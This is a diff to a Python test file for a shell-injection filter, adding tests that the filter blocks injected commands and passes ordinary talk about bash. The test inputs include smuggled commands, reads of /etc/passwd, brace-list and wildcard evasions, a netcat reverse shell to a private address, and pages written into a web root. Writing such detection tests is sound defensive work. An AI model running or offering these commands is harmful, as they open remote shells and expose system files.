@@ -7,7 +7,7 @@ import re2
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from filters.threat import shell
+from filters.threat import ThreatFilter, ThreatOptions, shell
 from filters.threat.shell import (
     _LEADS,
     _SEPARATOR,
@@ -104,7 +104,7 @@ def _commands_by_pattern(text: str) -> list[Injected]:
         first = segment.split(None, 1)[0].strip("'\"(") if segment else ""
         shown = first in _LEADS or first.startswith("#!") or re2.search(r"(?:^|\s)--?[a-z0-9]", segment)
         if (segment in shell.WORDLIKE and segment not in shell.COMMANDS and segment not in shell.TOOLS) or (
-                not shown and re2.fullmatch(r"[a-z_][a-z0-9_]*=\S*", segment)):
+                not shown and re2.fullmatch(r"[a-z_][a-z0-9_]*=\S*", (segment.rsplit(None, 1) or [""])[-1])):
             # a lone word that names a command ("test || id") or a variable set ("a=1; echo"): what follows decides
             shown = not harmful(name, shell._clause_rest(text, name_end))
         if shown:
@@ -496,3 +496,25 @@ def test_a_page_written_into_the_web_root_is_harmful() -> None:
     assert harmful("echo", " pwned > /var/www/html/p.php")
     assert harmful("echo", " x > c:\\inetpub\\wwwroot\\a.aspx")
     assert not harmful("echo", " done > /tmp/out.txt")
+
+
+_GRAMMAR_THREAT = ThreatFilter(ThreatOptions(sink="bot"))
+
+
+@pytest.mark.parametrize("text", [
+    "x; id ", "x && ( who )", "x; { id; }", "x; ! whoami", "x; time id", "x || exec sh", " && {hostname,}",
+    "{cat,/etc/passwd}", "{c''at,/etc/hosts}", "x;{nc,-e,/b??/?h,10.0.0.8,9001}", "x;/usr/bin/whoami",
+    "x;a=wh;b=oami;$a$b",
+])
+def test_the_shell_grammar_reads_groups_prefixes_brace_lists_and_paths(text: str) -> None:
+    assert _GRAMMAR_THREAT.decide(text).action.name == "BLOCK", text
+
+
+@pytest.mark.parametrize("text", [
+    "Why does a=1; echo $a work in bash but not in sh?", "In zsh, count=14; echo ${count} gives an empty line",
+    "```python\nprint('hi')\n```", "```bash\nls -la\n```", "cp report.{md,bak} is a neat trick",
+    "mkdir -p src/{lib,test,docs} made three folders", "{1,2,3} is a set of three numbers",
+])
+def test_variables_fences_and_brace_lists_in_talk_are_no_injection(text: str) -> None:
+    verdict = _GRAMMAR_THREAT.decide(text)
+    assert verdict.action.name == "PASS" and not verdict.hints.alert, text
